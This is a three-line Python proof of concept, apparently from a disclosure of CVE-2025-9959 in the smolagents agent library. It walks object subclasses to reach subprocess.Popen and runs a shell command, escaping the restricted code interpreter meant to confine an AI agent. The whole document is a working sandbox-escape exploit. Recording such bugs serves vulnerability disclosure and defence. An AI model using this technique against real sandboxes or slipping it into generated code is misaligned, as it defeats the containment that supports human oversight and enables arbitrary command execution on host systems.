# Source: smolagents CVE-2025-9959, class hierarchy walk to subprocess.Popen (https://github.com/huggingface/smolagents/issues/2125)
popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]
popen(["id"])
